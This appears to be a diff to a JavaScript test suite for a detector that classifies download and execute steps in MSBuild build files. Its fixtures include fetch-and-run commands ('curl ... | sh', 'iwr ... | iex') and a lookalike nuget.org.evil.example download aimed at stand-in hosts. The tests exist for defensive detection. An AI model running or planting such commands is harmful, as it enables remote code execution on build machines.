@@ -83,6 +83,12 @@ describe('MSBuild files as build code', () => {
     expect(msbuildKinds('<DownloadFile SourceUrl="https://github.com/acme/tool/releases/download/v1.2.3/tool.zip" DestinationFolder="obj" />')).toEqual([]);
   });
 
+  it("leaves Visual Studio's old package restore alone: nuget.exe downloaded from nuget.org (serilog, AutoMapper history)", () => {
+    expect(msbuildKinds('<Code Type="Fragment" Language="cs">\n  WebClient webClient = new WebClient();\n  webClient.DownloadFile("https://nuget.org/nuget.exe", OutputFilename);\n</Code>')).toEqual([]);
+    expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['execute']);
+    expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://nuget.org.evil.example/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['download', 'execute']);
+  });
+
   it('skips XML comments and text outside the command elements', () => {
     expect(msbuildKinds('<!-- <Exec Command="curl https://evil.example/a | sh" /> -->\n<Description>Wraps curl and wget for .NET</Description>')).toEqual([]);
     expect(msbuildKinds('<!--\n<PreBuildEvent>iwr https://x.example | iex</PreBuildEvent>\n-->')).toEqual([]);
